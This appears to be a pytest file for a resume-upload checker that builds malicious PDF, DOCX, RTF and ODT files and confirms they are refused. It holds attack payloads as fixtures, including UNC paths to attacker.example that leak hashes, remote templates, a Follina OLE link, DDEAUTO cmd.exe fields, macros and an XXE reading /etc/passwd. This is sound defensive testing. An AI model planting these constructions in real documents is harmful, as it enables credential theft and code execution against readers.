"""Resumes that contact other computers when a recruiter opens them are refused.

These are the attacks seen against recruiters: a document that fetches a picture or template
from a UNC path (\\\\host\\share, leaking the reader's Windows password hash) or from a web
server (a tracking pixel, or Follina-style remote code), or a PDF that sends data or opens a
remote file. Each malicious file is built here from the real structure its format uses; the
files people really send (tests/fixtures/resumes, clickable links) stay accepted.
"""

import io

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from candidates.filetypes import _pdf_raw_has_active_content, _pdf_raw_has_remote_actions
from tests.candidates.test_filetypes import (
    build_docx,
    build_odt,
    build_pdf,
    inspect,
    pack_object_stream_pdf,
    refusal,
)

UNC_PDF = "\\\\attacker.example\\share\\logo.pdf"
TRACKER = "https://tracker.example/open?id=4711"
LINKEDIN = "https://www.linkedin.com/in/jane-example"


# --- PDF builders ------------------------------------------------------------------------------


def name(value: str) -> NameObject:
    return NameObject(f"/{value}")


def pdf_action(kind: str, **entries) -> DictionaryObject:
    """An action dictionary (PDF 32000 §12.6): /S names the kind, the rest are its entries."""
    action = DictionaryObject({name("Type"): name("Action"), name("S"): name(kind)})
    for key, value in entries.items():
        action[name(key)] = TextStringObject(value) if isinstance(value, str) else value
    return action


def uri(url: str = TRACKER) -> DictionaryObject:
    return pdf_action("URI", URI=url)


def new_writer(pages: int = 2) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    return writer


def annotation(subtype: str = "Link", **entries) -> DictionaryObject:
    annot = DictionaryObject(
        {
            name("Type"): name("Annot"),
            name("Subtype"): name(subtype),
            name("Rect"): ArrayObject([NumberObject(n) for n in (72, 700, 300, 720)]),
        }
    )
    annot.update({name(key): value for key, value in entries.items()})
    return annot


def link(writer: PdfWriter, action: DictionaryObject, *, page: int = 0) -> None:
    writer.add_annotation(page_number=page, annotation=annotation(A=action))


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def compressed(data: bytes) -> bytes:
    """The same PDF with every object moved into a Flate-compressed object stream, so none of
    its names can be seen in the raw bytes."""
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    bodies = []
    for number in range(1, int(reader.trailer["/Size"])):
        obj = reader.get_object(number)
        assert not isinstance(obj, StreamObject), "object streams can't hold streams"
        buffer = io.BytesIO()
        obj.write_to_stream(buffer)
        bodies.append(buffer.getvalue())
    return pack_object_stream_pdf(bodies, root=reader.trailer.raw_get("/Root").idnum)


def with_open_action(action) -> bytes:
    writer = new_writer()
    writer.root_object[name("OpenAction")] = action
    return written(writer)


def with_page_aa(trigger: str, action: DictionaryObject) -> bytes:
    writer = new_writer()
    writer.pages[0][name("AA")] = DictionaryObject({name(trigger): action})
    return written(writer)


def with_annotation_aa(trigger: str, action: DictionaryObject, subtype: str = "Link") -> bytes:
    writer = new_writer()
    aa = DictionaryObject({name(trigger): action})
    writer.add_annotation(page_number=0, annotation=annotation(subtype, AA=aa))
    return written(writer)


def with_catalog_aa(trigger: str, action: DictionaryObject) -> bytes:
    writer = new_writer()
    writer.root_object[name("AA")] = DictionaryObject({name(trigger): action})
    return written(writer)


def with_link(action: DictionaryObject) -> bytes:
    writer = new_writer()
    link(writer, action)
    return written(writer)


def goto_page(writer: PdfWriter, page: int) -> DictionaryObject:
    return pdf_action("GoTo", D=ArrayObject([writer.pages[page].indirect_reference, name("Fit")]))


# --- PDF: accepted -----------------------------------------------------------------------------


def linked_resume() -> bytes:
    """A resume with clickable links, an internal link, and an opening view on page 2."""
    writer = new_writer()
    writer.add_annotation(page_number=0, annotation=Link(rect=(72, 700, 300, 720), url=LINKEDIN))
    writer.add_annotation(
        page_number=0, annotation=Link(rect=(72, 680, 300, 700), url="mailto:jane@example.com")
    )
    writer.add_annotation(
        page_number=0, annotation=Link(rect=(72, 660, 300, 680), target_page_index=1)
    )
    # Opening on a page whose links reach the web must not count those links as "on open".
    link(writer, uri("https://github.com/jane-example"), page=1)
    writer.root_object[name("OpenAction")] = goto_page(writer, 1)
    writer.pages[1][name("AA")] = DictionaryObject(
        {name("O"): pdf_action("Named", N=name("NextPage"))}
    )
    return written(writer)


@pytest.mark.parametrize("pack", [False, True], ids=["plain", "object-stream"])
def test_pdf_with_clickable_links_is_accepted(pack):
    data = linked_resume()
    assert data.count(b"/S /URI") == 3  # LinkedIn, email and GitHub
    assert inspect(compressed(data) if pack else data, "resume.pdf").kind == "pdf"


def test_pdf_opening_at_a_destination_is_accepted():
    # LibreOffice writes /OpenAction [page /XYZ ...], a destination, not an action.
    writer = new_writer()
    writer.root_object[name("OpenAction")] = ArrayObject(
        [
            writer.pages[0].indirect_reference,
            name("XYZ"),
            NumberObject(0),
            NumberObject(792),
            NumberObject(0),
        ]
    )
    assert inspect(written(writer), "resume.pdf").kind == "pdf"


# --- PDF: refused ------------------------------------------------------------------------------


def remote_refusal(data: bytes, *, code: str = "remote_content") -> None:
    rejected = refusal(data, "resume.pdf")
    assert rejected.code == code
    if code == "remote_content":
        assert "contact other computers" in rejected.message
        assert "Save as PDF" in rejected.message


REMOTE_ON_OPEN = {
    "open-action-uri": lambda: with_open_action(uri()),
    "open-action-uri-unc": lambda: with_open_action(uri("file://attacker.example/share/x.png")),
    "open-action-goto-then-uri": lambda: with_open_action(
        pdf_action(
            "Named",
            N=name("FirstPage"),
            Next=ArrayObject([pdf_action("Named", N=name("LastPage")), uri()]),
        )
    ),
    "open-action-gotor-unc": lambda: with_open_action(
        pdf_action("GoToR", F=UNC_PDF, D=ArrayObject([NumberObject(0), name("Fit")]))
    ),
    "open-action-import-data": lambda: with_open_action(pdf_action("ImportData", F=UNC_PDF)),
    "open-action-submit-form": lambda: with_open_action(
        pdf_action("SubmitForm", F=pdf_action("URI", URI=TRACKER), Flags=NumberObject(4))
    ),
    "open-action-thread": lambda: with_open_action(
        pdf_action("Thread", F=UNC_PDF, D=NumberObject(0))
    ),
    "page-open-uri": lambda: with_page_aa("O", uri()),
    "page-close-uri": lambda: with_page_aa("C", uri()),
    "annotation-page-visible-uri": lambda: with_annotation_aa("PV", uri()),
    "annotation-mouse-enter-uri": lambda: with_annotation_aa("E", uri()),
    "form-field-focus-uri": lambda: with_annotation_aa("Fo", uri(), subtype="Widget"),
    "catalog-will-close-uri": lambda: with_catalog_aa("WC", uri()),
    "catalog-did-print-uri": lambda: with_catalog_aa("DP", uri()),
    "link-gotor-unc": lambda: with_link(pdf_action("GoToR", F=UNC_PDF, D=NumberObject(0))),
    "link-submit-form": lambda: with_link(pdf_action("SubmitForm", F=TRACKER)),
    "link-import-data": lambda: with_link(pdf_action("ImportData", F=UNC_PDF)),
    "link-uri-then-gotor": lambda: with_link(
        pdf_action("URI", URI=LINKEDIN, Next=pdf_action("GoToR", F=UNC_PDF, D=NumberObject(0)))
    ),
}


@pytest.mark.parametrize("build", REMOTE_ON_OPEN.values(), ids=REMOTE_ON_OPEN.keys())
def test_pdf_that_contacts_other_computers(build):
    remote_refusal(build())


@pytest.mark.parametrize("build", REMOTE_ON_OPEN.values(), ids=REMOTE_ON_OPEN.keys())
def test_pdf_that_contacts_other_computers_from_a_compressed_object_stream(build):
    data = compressed(build())
    # Only the parsed objects give it away: nothing readable is left in the raw bytes.
    for hidden in (b"URI", b"GoToR", b"ImportData", b"SubmitForm", b"attacker", b"tracker"):
        assert hidden not in data
    assert not _pdf_raw_has_remote_actions(data)
    remote_refusal(data)


@pytest.mark.parametrize(
    "action",
    [
        pdf_action("Launch", F="cmd.exe"),
        pdf_action("GoToE", NewWindow=name("true")),
        pdf_action("JavaScript", JS="app.launchURL('https://tracker.example/', false)"),
    ],
    ids=["launch", "gotoe", "javascript"],
)
@pytest.mark.parametrize("pack", [False, True], ids=["plain", "object-stream"])
def test_pdf_launch_embedded_goto_and_scripts_on_page_open(action, pack):
    data = with_page_aa("O", action)
    data = compressed(data) if pack else data
    if pack:
        assert not _pdf_raw_has_active_content(data)
    remote_refusal(data, code="active_content")


def test_pdf_with_hex_escaped_remote_action_name():
    data = build_pdf(page_extra=b"/AA << /O << /S /G#6FTo#52 /F (x.pdf) /D 0 >> >>")
    assert b"GoToR" not in data
    assert _pdf_raw_has_remote_actions(data)
    remote_refusal(data)


def test_raw_pdf_scan_for_remote_actions_ignores_lookalikes():
    assert _pdf_raw_has_remote_actions(b"<< /S /SubmitForm >>")
    assert _pdf_raw_has_remote_actions(b"<</S/ImportData/F(x)>>")
    assert not _pdf_raw_has_remote_actions(b"<< /GoToRemote 1 /SubmitFormat 2 /URI (x) >>")


# --- DOCX --------------------------------------------------------------------------------------

RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT_REL = "http://purl.oclc.org/ooxml/officeDocument/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def rels(*relationships: tuple[str, str, str | None]) -> bytes:
    """A relationships part: (type, target, target mode) for each relationship."""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{kind if "/" in kind else f"{REL}/{kind}"}" '
        f'Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for number, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{RELATIONSHIPS}">{rows}</Relationships>'
    ).encode()


def document_xml(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD}" xmlns:r="{REL}">'
        f"<w:body><w:p><w:r><w:t>Jane Example</w:t></w:r></w:p>{body}</w:body></w:document>"
    ).encode()


def docx_with_rels(part: str, *relationships, **members: bytes) -> bytes:
    return build_docx({part: rels(*relationships), **members})


DOCUMENT_RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
UNC_IMAGE = "\\\\attacker.example\\share\\pixel.png"


def test_docx_with_clickable_links_is_accepted():
    data = docx_with_rels(
        DOCUMENT_RELS,
        ("styles", "styles.xml", None),
        ("hyperlink", LINKEDIN, "External"),
        ("hyperlink", "mailto:jane@example.com", "External"),
        (f"{STRICT_REL}/hyperlink", "https://github.com/jane-example", "External"),
        ("image", "media/image1.png", None),
    )
    assert inspect(data, "resume.docx").kind == "docx"


REMOTE_DOCX = {
    # Remote template injection: Word fetches (and runs the macros of) the template on opening.
    "remote-template-http": (SETTINGS_RELS, "attachedTemplate", "https://attacker.example/t.dotm"),
    "remote-template-unc": (
        SETTINGS_RELS,
        "attachedTemplate",
        "file:///\\\\attacker.example\\t.dotx",
    ),
    # Follina (CVE-2022-30190): an OLE object linked to a web page runs ms-msdt.
    "follina-ole-link": (DOCUMENT_RELS, "oleObject", "https://attacker.example/index.html!"),
    "image-on-unc-path": (DOCUMENT_RELS, "image", UNC_IMAGE),
    "tracking-pixel": (DOCUMENT_RELS, "image", TRACKER),
    "frame": ("word/_rels/webSettings.xml.rels", "frame", "https://attacker.example/f.html"),
    "sub-document": (DOCUMENT_RELS, "subDocument", "\\\\attacker.example\\share\\part2.docx"),
    "strict-image": (DOCUMENT_RELS, f"{STRICT_REL}/image", TRACKER),
    "package-level": ("_rels/.rels", "officeDocument/2006/relationships/x", TRACKER),
    "header-image": ("word/_rels/header1.xml.rels", "image", UNC_IMAGE),
    "upper-case-part-name": ("word/_rels/Document.xml.RELS", "image", UNC_IMAGE),
}


@pytest.mark.parametrize(("part", "kind", "target"), REMOTE_DOCX.values(), ids=REMOTE_DOCX.keys())
def test_docx_that_loads_content_from_other_computers(part, kind, target):
    if kind.startswith("officeDocument"):
        kind = f"http://schemas.openxmlformats.org/{kind}"
    data = docx_with_rels(part, ("styles", "styles.xml", None), (kind, target, "External"))
    rejected = refusal(data, "resume.docx")
    assert rejected.code == "remote_content"
    assert "other computers" in rejected.message


@pytest.mark.parametrize("mode", ["external", " External "])
def test_docx_external_target_mode_in_any_spelling(mode):
    data = docx_with_rels(DOCUMENT_RELS, ("image", UNC_IMAGE, mode))
    assert refusal(data, "resume.docx").code == "remote_content"


@pytest.mark.parametrize("target", [UNC_IMAGE, TRACKER, "//attacker.example/share/x.png"])
def test_docx_remote_target_without_external_mode(target):
    # The target is a network address whatever the relationship claims to be.
    data = docx_with_rels(DOCUMENT_RELS, ("image", target, None))
    assert refusal(data, "resume.docx").code == "remote_content"


def test_docx_with_an_embedded_ole_object():
    data = docx_with_rels(
        DOCUMENT_RELS,
        ("oleObject", "embeddings/oleObject1.bin", None),
        **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)},
    )
    rejected = refusal(data, "resume.docx")
    assert rejected.code == "active_content"
    assert "embedded" in rejected.message


def test_docx_with_a_file_in_its_embeddings_folder():
    data = build_docx({"word/embeddings/Microsoft_Word_Document.docx": build_docx()})
    assert refusal(data, "resume.docx").code == "active_content"


@pytest.mark.parametrize("kind", ["oleObject", "package", "aFChunk"])
def test_docx_embedding_relationship_anywhere_in_the_package(kind):
    data = docx_with_rels(DOCUMENT_RELS, (kind, "media/image1.bin", None))
    assert refusal(data, "resume.docx").code == "active_content"


def test_docx_with_an_alt_chunk():
    # altChunk imports another document (HTML, MHT, RTF) as-is; its pictures load from the web.
    chunk = f'<html><body><img src="{TRACKER}">Jane</body></html>'.encode()
    data = docx_with_rels(
        DOCUMENT_RELS,
        ("aFChunk", "chunk.html", None),
        **{
            "word/document.xml": document_xml('<w:altChunk r:id="rId1"/>'),
            "word/chunk.html": chunk,
        },
    )
    rejected = refusal(data, "resume.docx")
    assert rejected.code == "active_content"


def test_docx_with_malformed_relationships():
    data = build_docx({DOCUMENT_RELS: b"<Relationships><Relationship Target="})
    assert refusal(data, "resume.docx").code == "corrupt"


def test_docx_relationships_with_an_entity_declaration():
    evil = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<Relationships xmlns="' + RELATIONSHIPS.encode() + b'">&x;</Relationships>'
    )
    assert refusal(build_docx({DOCUMENT_RELS: evil}), "resume.docx").code == "corrupt"


# --- RTF ---------------------------------------------------------------------------------------


def rtf(body: bytes) -> bytes:
    return rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\pard Jane Example\par " + body + rb"\par}"


def rtf_field(instruction: bytes, result: bytes = b"x") -> bytes:
    return rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt " + result + rb"}}"


@pytest.mark.parametrize(
    "body",
    [
        rtf_field(rb'HYPERLINK "https://www.linkedin.com/in/jane/import"', b"LinkedIn"),
        rtf_field(rb"PAGE \\* MERGEFORMAT", b"1"),
        rtf_field(rb'{\rtlch\fcs1 \af0 \ltrch\fcs0  HYPERLINK "mailto:jane@example.com" }'),
        rb"Skilled with Word's INCLUDEPICTURE, INCLUDETEXT and IMPORT fields.",
        rb"{\*\template C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm}",
        rb"Kept drawings in C:\\objects and D:\\objupdate folders.",
    ],
    ids=[
        "hyperlink",
        "page-number",
        "word-style-hyperlink",
        "words-in-text",
        "local-template",
        "escaped-backslash-then-obj",
    ],
)
def test_rtf_with_links_and_ordinary_fields_is_accepted(body):
    assert inspect(rtf(body), "resume.rtf").kind == "rtf"


UNC_RTF = rb'"\\\\attacker.example\\share\\pixel.png"'  # RTF doubles each backslash

REMOTE_RTF = {
    "includepicture-http": rtf_field(rb'INCLUDEPICTURE "https://tracker.example/p.png" \\d'),
    "includepicture-unc": rtf_field(rb"INCLUDEPICTURE " + UNC_RTF + rb" \\* MERGEFORMATINET"),
    "includetext": rtf_field(rb'INCLUDETEXT "\\\\attacker.example\\share\\part.docx"'),
    "import": rtf_field(rb"IMPORT " + UNC_RTF),
    "lower-case": rtf_field(rb"includepicture " + UNC_RTF),
    "leading-white-space": rtf_field(rb"   \tab  INCLUDEPICTURE " + UNC_RTF),
    "split-by-groups": rtf_field(rb"{INCLUDE}{\b PICT}URE " + UNC_RTF),
    "split-by-line-breaks": rtf_field(b"INCLU\r\nDEPIC\nTURE " + UNC_RTF),
    "hex-escaped-letter": rtf_field(rb"\'49NCLUDEPICTURE " + UNC_RTF),
    "unicode-escaped-letter": rtf_field(rb"\u73?NCLUDEPICTURE " + UNC_RTF),
    "word-formatting": rtf_field(
        rb"{\rtlch\fcs1 \af0 \ltrch\fcs0  INCLUDEPICTURE " + UNC_RTF + b"}"
    ),
    "hidden-destination-in-front": rtf_field(rb"{\*\bkmkstart x}INCLUDEPICTURE " + UNC_RTF),
    "fldinst-without-star": rb"{\field{\fldinst INCLUDEPICTURE " + UNC_RTF + rb"}{\fldrslt x}}",
    "upper-case-control-word": rb"{\field{\*\FLDINST INCLUDEPICTURE " + UNC_RTF + rb"}}",
    "nested-field": rtf_field(rb'IF 1 = 1 "' + rtf_field(rb"INCLUDEPICTURE " + UNC_RTF) + b'"'),
    "dde-auto": rtf_field(rb'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
    "link": rtf_field(rb'LINK Excel.Sheet.12 "\\\\attacker.example\\share\\pay.xlsx" "" \\a'),
    "remote-template-unc": rb"{\*\template \\\\attacker.example\\share\\cv.dotm}",
    "remote-template-http": rb"{\*\template https://attacker.example/cv.dotm}",
}


@pytest.mark.parametrize("body", REMOTE_RTF.values(), ids=REMOTE_RTF.keys())
def test_rtf_that_loads_content_from_other_computers(body):
    rejected = refusal(rtf(body), "resume.rtf")
    assert rejected.code == "remote_content"
    assert "other computers" in rejected.message


@pytest.mark.parametrize(
    "body",
    [
        rb"{\objupdate}",
        rb"{\*\objdata 0105}",
        rb"{\OBJECT\objautlink{\*\objclass Word.Document.8}}",
        rb"{\objupdate\objemb{\*\objclass Package}}",
    ],
    ids=["objupdate", "objdata", "upper-case-object", "objupdate-objemb"],
)
def test_rtf_with_self_updating_or_embedded_objects(body):
    rejected = refusal(rtf(body), "resume.rtf")
    assert rejected.code == "active_content"
    assert "embedded objects" in rejected.message


# --- ODT ---------------------------------------------------------------------------------------

ODF = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    "presentation": "urn:oasis:names:tc:opendocument:xmlns:presentation:1.0",
    "meta": "urn:oasis:names:tc:opendocument:xmlns:meta:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "ooo": "http://openoffice.org/2004/office",
    "manifest": "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0",
}
NAMESPACES = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in ODF.items())
MACRO = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
ON_LOAD = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    f'script:event-name="dom:load" xlink:href="{MACRO}"/></office:event-listeners>'
)


def odt_content(before_body: str = "", body: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {NAMESPACES}>'
        f"{before_body}<office:body><office:text><text:p>Jane Example</text:p>{body}"
        "</office:text></office:body></office:document-content>"
    ).encode()


def odt_styles(inside: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {NAMESPACES}>'
        f"<office:styles>{inside}</office:styles></office:document-styles>"
    ).encode()


def odt_meta(inside: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {NAMESPACES}>'
        f"<office:meta>{inside}</office:meta></office:document-meta>"
    ).encode()


def odt_manifest(*paths: str) -> bytes:
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="text/xml"/>'
        for path in ("/", "content.xml", *paths)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest {NAMESPACES}>'
        f"{entries}</manifest:manifest>"
    ).encode()


def test_odt_with_links_pictures_and_an_empty_scripts_element_is_accepted():
    # LibreOffice writes <office:scripts/> in every document, macros or not.
    content = odt_content(
        "<office:scripts/>",
        f'<text:p><text:a xlink:type="simple" xlink:href="{LINKEDIN}">LinkedIn</text:a></text:p>'
        '<draw:frame><draw:image xlink:href="Pictures/photo.png" xlink:type="simple"/>'
        "</draw:frame>",
    )
    data = build_odt(
        {
            "content.xml": content,
            "styles.xml": odt_styles(""),
            "meta.xml": odt_meta("<meta:generator>LibreOffice</meta:generator>"),
            "META-INF/manifest.xml": odt_manifest("Pictures/photo.png"),
            "Configurations2/accelerator/current.xml": b"",
        }
    )
    assert inspect(data, "resume.odt").kind == "odt"


SCRIPTED_ODT = {
    "macro-on-open": {"content.xml": odt_content(f"<office:scripts>{ON_LOAD}</office:scripts>")},
    "event-listeners-anywhere": {
        "content.xml": odt_content(body=f"<draw:frame>{ON_LOAD}</draw:frame>")
    },
    "event-listeners-in-styles": {"styles.xml": odt_styles(ON_LOAD)},
    "presentation-event-listener": {
        "content.xml": odt_content(
            body="<office:event-listeners><presentation:event-listener "
            'script:event-name="dom:click" presentation:action="execute" '
            'xlink:href="calc.exe"/></office:event-listeners>'
        )
    },
    "basic-library-declared": {
        "content.xml": odt_content(
            '<office:scripts><office:script script:language="ooo:Basic">'
            "<ooo:libraries/></office:script></office:scripts>"
        )
    },
    "script-element-other-prefix": {
        "content.xml": odt_content(
            body='<x:event-listener xmlns:x="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'
        )
    },
    "macro-link": {
        "content.xml": odt_content(
            body=f'<text:p><text:a xlink:href="{MACRO}">Portfolio</text:a></text:p>'
        )
    },
    "manifest-basic": {"META-INF/manifest.xml": odt_manifest("Basic/Standard/Module1.xml")},
    "manifest-scripts": {"META-INF/manifest.xml": odt_manifest("Scripts/python/evil.py")},
    "python-script": {"Scripts/python/evil.py": b"import os\nos.system('calc')\n"},
    "embedded-object-with-macro": {
        "Object 1/content.xml": odt_content(f"<office:scripts>{ON_LOAD}</office:scripts>")
    },
}


@pytest.mark.parametrize("members", SCRIPTED_ODT.values(), ids=SCRIPTED_ODT.keys())
def test_odt_with_scripts_or_event_listeners(members):
    rejected = refusal(build_odt(members), "resume.odt")
    assert rejected.code == "active_content"
    assert "macros or scripts" in rejected.message


REMOTE_ODT = {
    "linked-picture-unc": {
        "content.xml": odt_content(
            body=f'<draw:frame><draw:image xlink:href="{UNC_IMAGE}"/></draw:frame>'
        )
    },
    "tracking-pixel": {
        "content.xml": odt_content(
            body=f'<draw:frame><draw:image xlink:href="{TRACKER}"/></draw:frame>'
        )
    },
    "linked-section": {
        "content.xml": odt_content(
            body='<text:section text:name="S"><text:section-source '
            'xlink:href="file://attacker.example/share/part.odt"/></text:section>'
        )
    },
    "background-picture-in-styles": {
        "styles.xml": odt_styles(
            '<style:style style:name="P"><style:paragraph-properties><style:background-image '
            f'xlink:href="{TRACKER}"/></style:paragraph-properties></style:style>'
        )
    },
    "remote-template": {
        "meta.xml": odt_meta(f'<meta:template xlink:href="{UNC_IMAGE}" xlink:title="cv"/>')
    },
    "auto-reload": {
        "meta.xml": odt_meta(f'<meta:auto-reload xlink:href="{TRACKER}" meta:delay="PT0S"/>')
    },
}


@pytest.mark.parametrize("members", REMOTE_ODT.values(), ids=REMOTE_ODT.keys())
def test_odt_that_loads_content_from_other_computers(members):
    rejected = refusal(build_odt(members), "resume.odt")
    assert rejected.code == "remote_content"
    assert "other computers" in rejected.message


def test_odt_with_malformed_xml():
    data = build_odt({"styles.xml": b"<office:document-styles><office:styles>"})
    assert refusal(data, "resume.odt").code == "corrupt"


# --- DOCX fields -------------------------------------------------------------------------------


def word_field(*instruction_runs: str, result: str = "x") -> str:
    """A complex field as Word writes it: begin, instruction runs, separate, result, end."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instruction_runs
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


UNC_WORD = '"\\\\attacker.example\\share\\pixel.png"'


def test_docx_with_hyperlink_and_page_fields_is_accepted():
    footer = document_xml(word_field(" PAGE ")).replace(b"w:document", b"w:ftr")
    data = build_docx(
        {
            "word/document.xml": document_xml(
                word_field(' HYPERLINK "https://www.linkedin.com/in/jane/import" ')
                + '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;MMMM yyyy&quot; "/></w:p>'
            ),
            "word/footer1.xml": footer,
        }
    )
    assert inspect(data, "resume.docx").kind == "docx"


REMOTE_WORD_FIELDS = {
    "includepicture": document_xml(word_field(f" INCLUDEPICTURE {UNC_WORD} \\d ")),
    "split-across-runs": document_xml(word_field(" INCLU", "DEPIC", f"TURE {UNC_WORD}")),
    "lower-case": document_xml(word_field(f"includepicture {UNC_WORD}")),
    "includetext-simple-field": document_xml(
        f'<w:p><w:fldSimple w:instr=" INCLUDETEXT {UNC_WORD.replace(chr(34), "&quot;")} "/></w:p>'
    ),
    "dde-auto": document_xml(
        word_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')
    ),
    "nested-in-if": document_xml(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
        + word_field(f" INCLUDEPICTURE {UNC_WORD} ")[5:-6]
        + '<w:r><w:instrText>"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
}


@pytest.mark.parametrize("document", REMOTE_WORD_FIELDS.values(), ids=REMOTE_WORD_FIELDS.keys())
def test_docx_with_fields_that_load_content_from_other_computers(document):
    # Word updates linked fields when it opens a file ("Update automatic links at open").
    rejected = refusal(build_docx({"word/document.xml": document}), "resume.docx")
    assert rejected.code == "remote_content"


def test_docx_with_a_remote_field_in_a_header():
    header = document_xml(word_field(f" INCLUDEPICTURE {UNC_WORD} ")).replace(
        b"w:document", b"w:hdr"
    )
    rejected = refusal(build_docx({"word/header1.xml": header}), "resume.docx")
    assert rejected.code == "remote_content"


# --- templates and pictures on the author's own disk -------------------------------------------

LOCAL_WORD_TEMPLATES = [
    # What Word writes for a resume started from one of its own templates.
    "file:///C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\"
    "TM16392902[[fn=Polished resume, designed by MOO]].dotx",
    "file:///C:/Users/jane/Documents/Custom%20Office%20Templates/cv.dotx",
    "C:\\Templates\\cv.dotx",
    "Modern chronological resume.dotx",
]


@pytest.mark.parametrize("target", LOCAL_WORD_TEMPLATES)
def test_docx_from_a_template_on_the_authors_disk_is_accepted(target):
    # Opening it elsewhere looks for the template on the reader's own disk, and finds none.
    data = docx_with_rels(SETTINGS_RELS, ("attachedTemplate", target, "External"))
    assert inspect(data, "resume.docx").kind == "docx"


@pytest.mark.parametrize(
    "target",
    [
        "file://attacker.example/share/t.dotx",
        "file:////attacker.example/share/t.dotx",
        "file:///%5C%5Cattacker.example%5Cshare%5Ct.dotx",
        "\\\\?\\UNC\\attacker.example\\share\\t.dotx",
        "//attacker.example/share/t.dotx",
        "webdav://attacker.example/t.dotx",
    ],
)
def test_docx_with_a_template_on_another_computer(target):
    data = docx_with_rels(SETTINGS_RELS, ("attachedTemplate", target, "External"))
    assert refusal(data, "resume.docx").code == "remote_content"


@pytest.mark.parametrize("target", ["file:///C:/Users/jane/Pictures/me.png", "C:\\me.png"])
def test_docx_picture_linked_from_the_authors_disk_is_still_refused(target):
    # Only templates get the allowance: a linked picture is never needed in a resume.
    data = docx_with_rels(DOCUMENT_RELS, ("image", target, "External"))
    assert refusal(data, "resume.docx").code == "remote_content"


@pytest.mark.parametrize(
    "members",
    [
        {"meta.xml": odt_meta('<meta:template xlink:href="file:///usr/share/templates/cv.ott"/>')},
        {"meta.xml": odt_meta('<meta:template xlink:href="file:///C:/Users/jane/cv.ott"/>')},
        {"meta.xml": odt_meta('<meta:template xlink:href="../../Templates/cv.ott"/>')},
        {
            "content.xml": odt_content(
                body='<draw:frame><draw:image xlink:href="file:///C:/Users/jane/me.png"/>'
                "</draw:frame>"
            )
        },
    ],
    ids=["linux-template", "windows-template", "relative-template", "local-picture"],
)
def test_odt_with_a_template_or_picture_on_the_authors_disk_is_accepted(members):
    assert inspect(build_odt(members), "resume.odt").kind == "odt"


def test_rtf_with_a_template_as_a_local_file_url_is_accepted():
    data = rtf(rb"{\*\template file:///C:/Users/jane/Templates/cv.dotx}")
    assert inspect(data, "resume.rtf").kind == "rtf"
